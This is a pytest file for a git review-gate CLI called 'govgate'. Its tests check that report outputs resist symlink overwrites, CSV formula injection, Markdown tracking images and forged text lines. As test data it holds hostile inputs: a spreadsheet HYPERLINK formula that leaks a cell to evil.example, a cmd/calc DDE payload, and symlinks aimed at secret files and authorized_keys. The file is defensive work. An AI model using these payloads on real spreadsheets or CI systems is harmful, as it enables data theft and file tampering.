"""Outputs are safe to open: no write through a committed symlink, inert CSV, Markdown and text,
JUnit that agrees with the exit code, integer risk scores, quiet broken pipes.

Each attack is paired with a control: the same run without the hostile part.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from govgate.formats.escaping import spreadsheet_cell
from tests.conftest import BOB, RepoBuilder, judge_range, run_cli

WARNING_POLICY = """\
version: 1
rules:
  - id: needs-review
    severity: warning
    require: {reviewed: {approvals: 1}}
"""


def check(repo: RepoBuilder, *args: str) -> object:
    return run_cli("check", "--repo", str(repo.path), "--base", "HEAD~1", *args)


# -- never write through a symlink the change committed ---------------------------------------------

def test_a_report_into_a_committed_symlink_is_refused(repo: RepoBuilder, tmp_path: Path) -> None:
    victim = tmp_path / "runner-secret.txt"
    victim.write_text("precious\n", encoding="utf-8")
    os.symlink(victim, repo.path / "govgate.sarif")
    repo.repo.index.add(["govgate.sarif"])
    repo.commit("Add a report file")
    for args in (("--report", "sarif=govgate.sarif"), ("-o", "govgate.sarif"), ("--report", "json=./govgate.sarif")):
        result = run_cli("check", "--base", "HEAD~1", *args, cwd=repo.path)
        assert result.code == 2 and "is a symbolic link" in result.stderr, result.stderr
        assert victim.read_text(encoding="utf-8") == "precious\n"
    # CONTROL: a plain path in the same checkout is written.
    result = run_cli("check", "--base", "HEAD~1", "--report", "sarif=real.sarif", cwd=repo.path)
    assert result.code in (0, 1) and (repo.path / "real.sarif").read_text(encoding="utf-8").startswith("{")


def test_a_report_through_a_committed_symlinked_folder_is_refused(repo: RepoBuilder, tmp_path: Path) -> None:
    repo.commit("Change", {"a.txt": "b\n"})
    outside = tmp_path / "home" / ".ssh"
    outside.mkdir(parents=True)
    os.symlink(outside, repo.path / "reports")
    result = run_cli("check", "--base", "HEAD~1", "--report", "sarif=reports/authorized_keys", cwd=repo.path)
    assert result.code == 2 and "reports is a symbolic link" in result.stderr
    assert not (outside / "authorized_keys").exists()
    result = run_cli("check", "--base", "HEAD~1", "--report", "sarif=reports/../x.sarif", cwd=repo.path)
    assert result.code == 2 and not (outside.parent / "x.sarif").exists()
    # CONTROL: a link outside the checkout is the machine's own (macOS /tmp) and is followed.
    elsewhere = tmp_path / "elsewhere"
    os.symlink(outside, elsewhere)
    result = run_cli("check", "--base", "HEAD~1", "--report", f"sarif={elsewhere / 'ok.sarif'}", cwd=repo.path)
    assert result.code in (0, 1) and (outside / "ok.sarif").exists(), result.stderr


def test_audit_output_through_a_symlink_is_refused(repo: RepoBuilder, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep\n", encoding="utf-8")
    os.symlink(victim, repo.path / "audit.csv")
    result = run_cli("audit", "--repo", str(repo.path), "--format", "csv", "-o", str(repo.path / "audit.csv"))
    assert result.code == 2 and "is a symbolic link" in result.stderr and victim.read_text(encoding="utf-8") == "keep\n"
    result = run_cli("audit", "--repo", str(repo.path), "--format", "csv", "-o", str(repo.path / "plain.csv"))
    assert result.code == 0 and (repo.path / "plain.csv").read_text(encoding="utf-8").startswith("id,")


# -- CSV cells are never formulas ---------------------------------------------------------------------

@pytest.mark.parametrize("title", ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"])
def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(repo: RepoBuilder, title: str) -> None:
    repo.commit("Plain subject", {"a.txt": "1\n"})
    repo.commit(title, {"b.txt": "2\n"})
    result = run_cli("audit", "--repo", str(repo.path), "--format", "csv")
    titles = [row["title"] for row in csv.DictReader(io.StringIO(result.stdout, newline=""))]
    assert "'" + title in titles and title not in titles
    assert "Plain subject" in titles  # CONTROL


def test_tab_and_carriage_return_cells_are_escaped_too() -> None:
    # git strips a subject's leading whitespace, so these reach a cell only from other fields.
    assert [spreadsheet_cell(v) for v in ("\tx", "\rx", "x\t", 3, "")] == ["'\tx", "'\rx", "x\t", 3, ""]


# -- Markdown: no mentions, no remote images -------------------------------------------------------------

def test_markdown_neutralises_mentions_and_images_from_untrusted_text(repo: RepoBuilder) -> None:
    repo.commit("Change", {"a.txt": "b\n"})
    title = "Ping @octocat and @org/security ![pixel](https://evil.example/track.png) <img src=https://evil.example/x>"
    result = check(repo, "--format", "markdown", "--pr-title", title)
    assert result.code in (0, 1), result.stderr
    assert "@octocat" not in result.stdout and "@&#8203;octocat" in result.stdout
    assert "![" not in result.stdout and "<img" not in result.stdout
    control = check(repo, "--format", "markdown", "--pr-title", "Ping octocat")
    assert "Ping octocat" in control.stdout


# -- text: a file name cannot print a line of its own ------------------------------------------------------

def test_a_file_name_with_a_newline_cannot_forge_a_pass_line(repo: RepoBuilder) -> None:
    forged = "x\ngovgate: PASS  all checks\x1b[2K.py"
    repo.commit("Change", {"src/app.py": "x = 1\n", forged: "y\n"})
    result = check(repo, "--format", "text", "--policy", "strict")
    lines = result.stdout.splitlines()
    assert sum(line.startswith("govgate: ") for line in lines) == 1, result.stdout
    assert "\x1b" not in result.stdout
    # CONTROL: the verdict itself is unchanged by the escaping.
    plain = judge_range(repo, "HEAD~1", policy="strict")
    assert lines[0].startswith(f"govgate: {plain['verdict'].upper()}")


def test_audit_text_escapes_titles_and_paths(repo: RepoBuilder) -> None:
    repo.commit("Fix\ngovgate audit of forged: 0 changes", {"a.txt": "1\n"})
    result = run_cli("audit", "--repo", str(repo.path), "--format", "text")
    assert result.code == 0 and sum(line.startswith("govgate audit") for line in result.stdout.splitlines()) == 1


# -- JUnit agrees with the exit code -----------------------------------------------------------------------------

def test_junit_has_failures_exactly_when_the_gate_fails(repo: RepoBuilder, tmp_path: Path) -> None:
    repo.commit("Unreviewed change", {"a.txt": "b\n"})
    policy = tmp_path / "warn.yml"
    policy.write_text(WARNING_POLICY, encoding="utf-8")
    passing = check(repo, "--format", "junit", "--policy", str(policy))
    assert passing.code == 0
    suite = ET.fromstring(passing.stdout)
    assert suite.get("failures") == "0" and suite.find(".//failure") is None
    assert "below --fail-on error" in (suite.find(".//testcase/system-out").text or "")
    # CONTROL: the same rule at --fail-on warning fails the gate, and is a <failure>.
    failing = check(repo, "--format", "junit", "--policy", str(policy), "--fail-on", "warning")
    assert failing.code == 1
    suite = ET.fromstring(failing.stdout)
    assert suite.get("failures") == "1" and suite.find(".//failure").get("type") == "warning"


# -- risk scores are integers ---------------------------------------------------------------------------------

def test_risk_scores_are_integers_in_every_json_object(repo: RepoBuilder) -> None:
    files = {f"area{i}/auth/login{i}.py": "x = 1\n" * 300 for i in range(6)}
    repo.commit("Big change", files, author=BOB)
    data = judge_range(repo, "HEAD~1")
    assert data["risk"]["score"] >= 6 and type(data["risk"]["score"]) is int
    assert all(type(f["score"]) is int for f in data["risk"]["factors"])
    lines = run_cli("audit", "--repo", str(repo.path), "--format", "json").stdout.splitlines()
    import json

    changes = [json.loads(line) for line in lines if '"govgate/check/v1"' in line]
    assert changes and all(type(c["risk"]["score"]) is int for c in changes)


# -- a reader that goes away ------------------------------------------------------------------------------------

@pytest.mark.parametrize("args", [("policy", "explain"), ("policy", "schema"), ("policy", "presets"), ("--help",)])
def test_a_closed_pipe_ends_the_command_quietly(args: tuple[str, ...]) -> None:
    read_end, write_end = os.pipe()
    os.close(read_end)  # the reader is gone before the first byte: every write fails with EPIPE
    try:
        proc = subprocess.run([sys.executable, "-m", "govgate", *args], stdout=write_end, stderr=subprocess.PIPE,
                              timeout=60, check=False)
    finally:
        os.close(write_end)
    assert proc.returncode == 0 and proc.stderr == b"", proc.stderr


def test_a_closed_pipe_keeps_the_verdict_exit_code(repo: RepoBuilder, tmp_path: Path) -> None:
    repo.commit("Unreviewed change", {"a.txt": "b\n"})
    policy = tmp_path / "p.yml"
    policy.write_text(WARNING_POLICY.replace("severity: warning", "severity: error"), encoding="utf-8")
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        proc = subprocess.run([sys.executable, "-m", "govgate", "check", "--repo", str(repo.path), "--base", "HEAD~1",
                               "--policy", str(policy)], stdout=write_end, stderr=subprocess.PIPE, timeout=60, check=False)
    finally:
        os.close(write_end)
    assert proc.returncode == 1 and proc.stderr == b"", proc.stderr
